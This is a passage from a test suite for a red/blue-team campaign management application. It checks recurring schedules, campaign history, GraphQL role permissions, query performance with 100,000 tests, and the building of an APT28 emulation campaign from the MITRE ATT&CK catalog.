    const draft = await createCampaign(t.red_lead.token, { name: 'Draft recurring', recurrence: '0 0 1 1 *' });
    expect(await run({ campaignId: draft.id, occurrence: '2026-01-01T00:00:00.000Z' })).toEqual({
      skipped: 'not active',
      occurrence: '2026-01-01T00:00:00.000Z',
    });
    expect(await app.services.prisma.campaignExecution.count({ where: { campaignId: draft.id } })).toBe(0);
  });

  it('history lists every change and every execution; the schedule goes when the recurrence is cleared', async () => {
    const { events, executions } = await history(campaign.id);
    expect(events.map((event: any) => event.kind)).toEqual([
      'created',
      'scheduled',
      'state_changed',
      'updated',
      'executed',
      'executed',
      'executed',
    ]);
    expect(events[1].details).toEqual({
      start_date: '2025-06-01T00:00:00.000Z',
      end_date: '2030-06-01T00:00:00.000Z',
      recurrence: '0 0 1 1 *',
    });
    expect(events[4]).toMatchObject({
      actor_id: null,
      actor_name: 'system',
      details: { occurrence: '2026-01-01T00:00:00.000Z', tests_created: 2 },
    });
    expect(executions.map((execution: any) => [execution.occurrence, execution.tests_created, execution.test_ids.length])).toEqual([
      ['2026-01-01T00:00:00.000Z', 2, 2],
      ['2027-01-01T00:00:00.000Z', 0, 0],
      ['2028-01-01T00:00:00.000Z', 1, 1],
    ]);
    expect(executions.every((execution: any) => execution.finished_at >= execution.started_at)).toBe(true);
    // 5 seeded + 2 + 1 retests: 8 tests, of which A's first retest is validated besides A and D.
    expect((await app.api('GET', `/campaigns/${campaign.id}/progress`, { token: t.viewer.token })).body).toMatchObject({
      total: 8,
      validated: 3,
      percentage: 37.5,
    });

    const cleared = await app.api('PATCH', `/campaigns/${campaign.id}/schedule`, { token: t.admin.token, body: { recurrence: null } });
    expect(cleared).toMatchObject({
      status: 200,
      body: { recurrence: null, next_occurrence: null, start_date: '2025-06-01T00:00:00.000Z' },
    });
    expect(await schedulerJob(campaign.id)).toBeUndefined();
    expect(await run({ campaignId: campaign.id, occurrence: '2029-01-01T00:00:00.000Z' })).toEqual({ skipped: 'not recurring' });
  });

  it('completing a recurring campaign removes its scheduler entry', async () => {
    const recurring = await createCampaign(t.red_lead.token, { name: 'Stops on completion', recurrence: '0 0 1 1 *' });
    await seedTest({ campaignId: recurring.id, state: 'validated' });
    await app.api('POST', `/campaigns/${recurring.id}/activate`, { token: t.red_lead.token });
    expect(await schedulerJob(recurring.id)).toMatchObject({ id: `campaign:${recurring.id}` });
    expect((await app.api('POST', `/campaigns/${recurring.id}/complete`, { token: t.red_lead.token })).status).toBe(200);
    expect(await schedulerJob(recurring.id)).toBeUndefined();
  });
});

describe('GraphQL', () => {
  it('reads a campaign with its tests, their campaign and the actor, and runs the same mutations', async () => {
    const created = await app.graphql(
      'mutation ($input: CreateCampaignInput!) { createCampaign(input: $input) { id status availableActions } }',
      { input: { name: 'Over GraphQL' } },
      t.admin.token,
    );
    const id = created.data.createCampaign.id;
    expect(created.data.createCampaign).toMatchObject({ status: 'draft', availableActions: ['activate'] });
    const test = await seedTest({ ttpId: 'T1027' });
    const added = await app.graphql(
      'mutation ($id: UUID!, $testId: UUID!) { addCampaignTest(id: $id, input: { testId: $testId }) { testCount tests { id technique { ttpId } campaign { id name } } } }',
      { id, testId: test.id },
      t.red_lead.token,
    );
    expect(added.data.addCampaignTest).toEqual({
      testCount: 1,
      tests: [{ id: test.id, technique: { ttpId: 'T1027' }, campaign: { id, name: 'Over GraphQL' } }],
    });
    const read = await app.graphql(
      'query ($id: UUID!) { campaign(id: $id) { progress { total byState { draft } } createdBy { id } } campaignHistory(id: $id) { events { kind } executions { id } } }',
      { id },
      t.viewer.token,
    );
    expect(read.data).toEqual({
      campaign: { progress: { total: 1, byState: { draft: 1 } }, createdBy: { id: t.admin.id } },
      campaignHistory: { events: [{ kind: 'created' }, { kind: 'test_added' }], executions: [] },
    });
    const activated = await app.graphql('mutation ($id: UUID!) { activateCampaign(id: $id) { status } }', { id }, t.blue_lead.token);
    expect(activated.data).toEqual({ activateCampaign: { status: 'active' } });
    const refused = await app.graphql('mutation ($id: UUID!) { completeCampaign(id: $id) { status } }', { id }, t.blue_lead.token);
    expect(refused.errors?.[0].extensions).toMatchObject({ code: 'FORBIDDEN' });
  });
});

describe("Campaign.myActions: what the caller's role may do now", () => {
  const myActions = async (token: string, id: string) =>
    (await app.graphql<{ campaign: { myActions: string[] } }>('query ($id: UUID!) { campaign(id: $id) { myActions } }', { id }, token))
      .data!.campaign.myActions;

  it('follows the transition table and the status rules per role, and is empty for viewers and technicians', async () => {
    const campaign = await createCampaign(t.red_lead.token, { name: 'Whose actions' });
    expect(await myActions(t.red_lead.token, campaign.id)).toEqual(['activate', 'schedule', 'manage_tests', 'edit', 'delete']);
    expect(await myActions(t.blue_lead.token, campaign.id)).toEqual(['activate', 'schedule', 'manage_tests', 'edit']);
    expect(await myActions(t.red_tech.token, campaign.id)).toEqual([]);
    expect(await myActions(t.viewer.token, campaign.id)).toEqual([]);
    await seedTest({ campaignId: campaign.id, state: 'red_executing' });
    expect((await app.api('POST', `/campaigns/${campaign.id}/activate`, { token: t.blue_lead.token })).status).toBe(200);
    expect(await myActions(t.red_lead.token, campaign.id)).toEqual(['complete', 'schedule', 'manage_tests', 'edit', 'delete']);
    expect(await myActions(t.blue_lead.token, campaign.id)).toEqual(['schedule', 'manage_tests', 'edit']);
    expect(await myActions(t.admin.token, campaign.id)).toEqual(['complete', 'schedule', 'manage_tests', 'edit', 'delete']);
    expect((await app.api('POST', `/campaigns/${campaign.id}/complete`, { token: t.red_lead.token })).status).toBe(200);
    const closed: Record<string, string[]> = { admin: ['edit', 'delete'], red_lead: ['edit', 'delete'], blue_lead: ['edit'] };
    for (const member of Object.values(t))
      expect(await myActions(member.token, campaign.id), member.role).toEqual(closed[member.role] ?? []);
  });

  it('offers edit and delete exactly when updateCampaign and deleteCampaign accept the caller', async () => {
    const campaign = await createCampaign(t.blue_lead.token, { name: 'Offered as allowed' });
    const update = (token: string) =>
      app.graphql(
        'mutation ($id: UUID!) { updateCampaign(id: $id, input: { description: "Changed" }) { id } }',
        { id: campaign.id },
        token,
      );
    const remove = (token: string) => app.graphql('mutation ($id: UUID!) { deleteCampaign(id: $id) }', { id: campaign.id }, token);
    for (const member of [t.viewer, t.red_tech, t.red_lead]) {
      const actions = await myActions(member.token, campaign.id);
      expect(!(await update(member.token)).errors, member.role).toBe(actions.includes('edit'));
      expect(!(await remove(member.token)).errors, member.role).toBe(actions.includes('delete'));
    }
    expect(await myActions(t.blue_lead.token, campaign.id)).toContain('delete');
    expect((await remove(t.blue_lead.token)).errors).toBeUndefined();
  });

  it('tests outside any campaign are listed with the withoutCampaign filter, so a lead can pick one to add', async () => {
    const campaign = await createCampaign(t.red_lead.token, { name: 'Picking tests' });
    const inside = await seedTest({ campaignId: campaign.id, name: 'Already inside' });
    const outside = await seedTest({ name: 'Free to add' });
    const listed = await app.graphql<{ tests: { items: { id: string; campaignId: string | null }[] } }>(
      'query { tests(filter: { withoutCampaign: true }, limit: 200) { items { id campaignId } } }',
      {},
      t.red_lead.token,
    );
    const ids = listed.data!.tests.items.map((item) => item.id);
    expect(ids).toContain(outside.id);
    expect(ids).not.toContain(inside.id);
    expect(listed.data!.tests.items.every((item) => item.campaignId === null)).toBe(true);
  });
});

describe('with 100,000 tests', () => {
  it('counts and progress stay exact and read through the campaign index', async () => {
    const owner = t.admin.id;
    const ids = (
      await app.services.prisma.$queryRaw<{ id: string }[]>`
        INSERT INTO campaigns (id, name, type, created_by, updated_at)
        SELECT gen_random_uuid(), 'Scale ' || lpad(n::text, 3, '0'), 'scale', ${owner}::uuid, now() FROM generate_series(0, 99) n
        RETURNING id::text AS id`
    ).map((row) => row.id);
    // Test n goes to campaign n % 100 in state number floor(n / 100) % 6 (draft … validated).
    await app.services.prisma.$executeRaw`
      INSERT INTO tests (id, lineage_id, technique_id, name, created_by, campaign_id, state, updated_at)
      SELECT g.id, g.id, ${techniques.T1059}::uuid, 'Scale test', ${owner}::uuid, (${ids}::uuid[])[g.n % 100 + 1],
             (ARRAY['draft','red_executing','blue_evaluating','in_review','rejected','validated'])[(g.n / 100) % 6 + 1]::"TestState", now()
      FROM (SELECT gen_random_uuid() AS id, n FROM generate_series(0, 99999) n) g`;
    await app.services.prisma.$executeRawUnsafe('ANALYZE tests');

    // Each campaign gets k = 0 … 999 once: state index k % 6; indexes 0–3 occur 167 times, 4 and 5 166 times.
    // validated: 166 of 1000 → 16.6 %.
    const progress = await app.api('GET', `/campaigns/${ids[0]}/progress`, { token: t.viewer.token });
    expect(progress.body).toEqual({
      validated: 166,
      total: 1000,
      percentage: 16.6,
      by_state: { draft: 167, red_executing: 167, blue_evaluating: 167, in_review: 167, rejected: 166, validated: 166 },
    });
    const list = await app.api('GET', '/campaigns?type=scale&limit=100', { token: t.viewer.token });
    expect(list.body.total).toBe(100);
    expect(list.body.items.every((item: any) => item.test_count === 1000 && item.validated_count === 166)).toBe(true);

    // The read lists the first 100 tests; tests_offset / tests_limit (≤ 500) page through the 1,000.
    const detail = await app.api('GET', `/campaigns/${ids[0]}`, { token: t.viewer.token });
    expect([detail.body.tests.length, detail.body.test_count]).toEqual([100, 1000]);
    const last = await app.api('GET', `/campaigns/${ids[0]}?tests_offset=900&tests_limit=500`, { token: t.viewer.token });
    expect(last.body.tests).toHaveLength(100);
    expect(new Set([...detail.body.tests, ...last.body.tests].map((test: any) => test.id)).size).toBe(200);
    expect(await app.api('GET', `/campaigns/${ids[0]}?tests_limit=501`, { token: t.viewer.token })).toMatchObject({
      status: 400,
      body: { field: 'limit' },
    });

    const plan = JSON.stringify(
      await app.services.prisma.$queryRawUnsafe(
        `EXPLAIN (FORMAT JSON) SELECT count(*) FILTER (WHERE state = 'validated') FROM tests WHERE campaign_id = ANY(ARRAY['${ids[0]}']::uuid[]) GROUP BY campaign_id`,
      ),
    );
    expect(plan).toContain('tests_campaign_id_state_idx');
  }, 120_000);
});

describe('against the real ATT&CK 18.1 catalog', () => {
  it("APT28's campaign has one test per distinct active technique its `uses` relationships name", async () => {
    const file = referenceData('attack', 'enterprise-attack-18.1.json');
    const { objects } = JSON.parse(await readFile(file, 'utf8')) as { objects: any[] };
    const byId = new Map(objects.map((object) => [object.id, object]));
    const active = (object: any) => !!object && !object.revoked && !object.x_mitre_deprecated;
    const group = objects.find(
      (object) => object.type === 'intrusion-set' && object.external_references?.some((ref: any) => ref.external_id === 'G0007'),
    );
    const used = new Set<string>();
    for (const object of objects) {
      if (object.type !== 'relationship' || object.relationship_type !== 'uses' || object.source_ref !== group.id || !active(object))
        continue;
      const target = byId.get(object.target_ref);
      if (target?.type === 'attack-pattern' && active(target))
        used.add(target.external_references.find((ref: any) => ref.source_name === 'mitre-attack').external_id);
    }
    expect(used.size).toBeGreaterThan(50);

    const catalogApp = await startTestApp();
    try {
      await importAttackEnterprise({ services: catalogApp.services, location: file, actor: SYSTEM_ACTOR, log: catalogApp.services.log });
      const actor = await catalogApp.services.prisma.threatActor.findFirstOrThrow({ where: { externalId: 'G0007', revoked: false } });
      const created = await catalogApp.api('POST', `/campaigns/from-threat-actor/${actor.id}`, {
        token: await catalogApp.tokenFor('red_lead'),
      });
      expect(created.status, JSON.stringify(created.body)).toBe(201);
      expect(created.body).toMatchObject({ name: 'APT28 (G0007) emulation', type: 'threat_actor', test_count: used.size });
      expect(created.body.tests.map((test: any) => test.technique.ttp_id).sort()).toEqual([...used].sort());
    } finally {
      await catalogApp.close();
    }
  }, 180_000);
});
